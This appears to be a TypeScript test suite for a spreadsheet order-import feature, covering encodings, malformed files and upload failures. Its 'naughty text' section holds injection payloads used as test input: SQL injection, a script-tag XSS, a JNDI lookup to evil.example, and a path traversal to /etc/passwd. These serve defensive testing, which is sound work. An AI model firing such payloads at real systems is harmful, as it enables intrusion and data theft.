import { rmSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import writeWorkbook from 'write-excel-file/node'
import { imported, rehearsed, upload, useImportDatabase } from '@/testing/imports'
import { createOrg } from '@/testing/test-org'
import { getImportDetails, stageImport, uploadImport } from '.'

let close: () => Promise<void>
let files: string
beforeAll(async () => {
  ;({ close, files } = await useImportDatabase())
})
afterAll(() => close())

const plain = [
  'Order,Date,Item,Quantity,Price,Buyer ID,Buyer name,Email',
  'A-1,2026-03-13 10:00,Paper lantern,2,12.50,b1,Zoë Lind,zoe@shop.example',
  'A-2,2026-03-14 10:00,Koi lantern,1,8.00,b2,Ole Berg,ole@shop.example',
].join('\n')
const orders =
  'select external_order_id as number, total_amount, customer_name, ordered_at from orders order by 1'
const expected = [
  {
    number: 'A-1',
    total_amount: '25.0000',
    customer_name: 'Zoë Lind',
    ordered_at: '2026-03-13 10:00:00+00',
  },
  {
    number: 'A-2',
    total_amount: '8.0000',
    customer_name: 'Ole Berg',
    ordered_at: '2026-03-14 10:00:00+00',
  },
]

describe('the same orders', () => {
  test.each([
    ['plain', Buffer.from(plain), 'orders.csv'],
    [
      'with a byte order mark and CRLF',
      Buffer.from(`\uFEFF${plain.replaceAll('\n', '\r\n')}`),
      'o.csv',
    ],
    ['gzipped, under a name that hides it', gzipSync(plain), 'orders.csv'],
    ['in UTF-16', Buffer.from(`\uFEFF${plain}`, 'utf16le'), 'orders.txt'],
    ['in windows-1252', Buffer.from(plain, 'latin1'), 'orders.csv'],
    ['with tabs', Buffer.from(plain.replaceAll(',', '\t')), 'orders.tsv'],
    [
      'with semicolons, decimal commas and German dates',
      Buffer.from(
        plain
          .replaceAll(',', ';')
          .replaceAll('12.50', '12,50')
          .replaceAll('8.00', '8,00')
          .replaceAll(/2026-03-(\d\d)/g, '$1.03.2026'),
      ),
      'bestellungen.csv',
    ],
    [
      'with NUL bytes and other control characters between',
      Buffer.from(plain.replace('Paper', 'Pa\0per').replace('Koi', 'K\x07oi')),
      'orders.csv',
    ],
  ])('%s', async (_what, content, name) => {
    const org = await createOrg()
    expect(await imported(org, content, name)).toMatchObject({ status: 'completed' })
    expect(await org.rows(orders)).toEqual(expected)
  })

  test('as a workbook, whatever it is called', async () => {
    const cells = plain.split('\n').map((line, row) =>
      line.split(',').map((value, column) => {
        if (row > 0 && column === 1)
          return { value: new Date(`${value.replace(' ', 'T')}:00Z`), type: Date, format: 'yyyy-mm-dd hh:mm' } // biome-ignore format: one cell
        if (row > 0 && (column === 3 || column === 4)) return { value: Number(value), type: Number }
        return { value }
      }),
    )
    const org = await createOrg()
    await imported(org, await writeWorkbook(cells).toBuffer(), 'orders.csv')
    expect(await org.rows(orders)).toEqual(expected)
  })
})

describe('a file that cannot be imported', () => {
  const wide = `${Array.from({ length: 5000 }, (_, n) => `column ${n}`).join(',')}\n`
  test.each([
    ['a PDF called CSV', Buffer.from('%PDF-1.7\n%âãÏÓ'), /PDF/],
    ['a picture', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), /picture/],
    ['a web page', Buffer.from('<!doctype html><table></table>'), /web page/],
    ['noise', Buffer.from(Array.from({ length: 4096 }, (_, n) => (n * 7919) % 251)), /not a text/],
    ['thousands of columns', Buffer.from(wide), /5,000 columns/],
    ['a quotation mark that is never closed', Buffer.from(`${plain}\nA-3,"`), /quot/],
    ['half a gzip file', gzipSync(plain.repeat(50)).subarray(0, 90), /./],
    ['a zip that is no workbook', Buffer.from('PK\x03\x04nothing', 'latin1'), /./],
    ['nothing but a header', Buffer.from('\n\n\n'), /empty/],
  ])('%s fails with its reason and leaves nothing', async (_what, content, reason) => {
    const org = await createOrg()
    const job = await rehearsed(org, content)
    expect(job).toMatchObject({ status: 'failed', summary: undefined })
    expect(job.error).toMatch(reason)
    expect(
      await org.rows('select file_key, finished_at is not null as is_over from imports'),
    ).toEqual([{ file_key: null, is_over: true }])
    expect(await org.rows('select count(*) as n from import_shelves')).toEqual([{ n: '0' }])
    expect(await org.rows('select count(*) as n from orders')).toEqual([{ n: '0' }])
  })

  test('nothing at all is refused at once', async () => {
    const org = await createOrg()
    await expect(upload(org, '')).rejects.toMatchObject({ code: 'invalid' })
    expect(await org.rows('select count(*) as n from imports')).toEqual([{ n: '0' }])
  })

  test('an upload that breaks off leaves nothing', async () => {
    const org = await createOrg()
    async function* broken() {
      yield Buffer.from(plain)
      throw new Error('connection lost')
    }
    await expect(uploadImport(org.ctx, { name: 'orders.csv', content: broken() })).rejects.toThrow(
      'connection lost',
    )
    expect(await org.rows('select count(*) as n from imports')).toEqual([{ n: '0' }])
  })

  test('a file that vanished from the store is asked for again', async () => {
    const org = await createOrg()
    const importId = await upload(org, plain)
    rmSync(`${files}/files`, { recursive: true })
    await stageImport(org.ctx, { importId, inBackground: true })
    const job = await getImportDetails(org.ctx, importId)
    expect(job).toMatchObject({
      status: 'failed',
      error: expect.stringContaining('Upload it again'),
    })
  })
})

describe('naughty text', () => {
  const naughty = [
    'Robert"); DROP TABLE orders;--',
    '\\N',
    '\\.',
    '\\x00',
    "' OR 1=1 --",
    '<script>alert(1)</script>',
    '$' + '{jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '田中さん 👩‍👩‍👧',
    '\u202Eevil',
    'Ω≈ç√∫˜µ',
    '1;2|3\t4',
    '"quoted" and, comma',
    'line\nbreak',
    'null',
    'undefined',
    'NaN',
    '__proto__',
    'constructor',
    '%s%n%x',
  ]
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`

  test('in every field comes out as it went in, or is rejected with a reason', async () => {
    const fields = ['Order', 'Date', 'Item', 'SKU', 'Quantity', 'Price', 'Status', 'Currency', 'Buyer ID', 'Buyer name', 'Email', 'Phone', 'Street', 'Postcode', 'City', 'Country', 'Notes', 'Category'] // biome-ignore format: one list
    const usual: Record<string, string> = { Date: '2026-03-01', Item: 'Lantern', SKU: 'S', Quantity: '1', Price: '2.00', Status: 'shipped', Currency: 'GBP' } // biome-ignore format: one row
    const lines = fields.flatMap((field) =>
      naughty.map((text, n) =>
        fields
          .map((name) =>
            quoted(
              name === field ? text : name === 'Order' ? `${field} ${n}` : (usual[name] ?? ''),
            ),
          )
          .join(','),
      ),
    )
    const usualLine = fields.map((name) => quoted(name === 'Order' ? 'P-1' : (usual[name] ?? '')))
    const plainLines = Array.from({ length: 400 }, () => usualLine.join(','))
    const org = await createOrg()
    const job = await imported(org, [fields.join(','), ...plainLines, ...lines].join('\n'))
    expect(job.status).toBe('completed')
    expect(job.lines + job.rejectedLines).toBe(400 + lines.length)
    const text = naughty.map((value) => value.trim())
    const names = await org.rows(
      "select customer_name from orders where external_order_id like 'Buyer name %' order by substring(external_order_id from '\\d+')::int",
    )
    expect(names.map((row) => row['customer_name'])).toEqual(text)
    const titles = await org.rows(
      "select title from order_items i join orders o on o.id = i.order_id where external_order_id like 'Item %' order by substring(external_order_id from '\\d+')::int",
    )
    expect(titles.map((row) => row['title'])).toEqual(text)
    const numbers = await org.rows('select external_order_id as number from orders')
    expect(numbers.map((row) => row['number'])).toEqual(expect.arrayContaining(text))
  })

  test('in the header and in the name of the file does no harm', async () => {
    const org = await createOrg()
    const name = `${naughty[0]} ../../etc/passwd \u202E.csv`
    const head = `Order,Date,Price,${naughty.map(quoted).join(',')}`
    const job = await imported(org, `${head}\nA-1,2026-03-01,5.00,`, name)
    expect(job).toMatchObject({ status: 'completed', fileName: name, summary: { created: 1 } })
  })
})
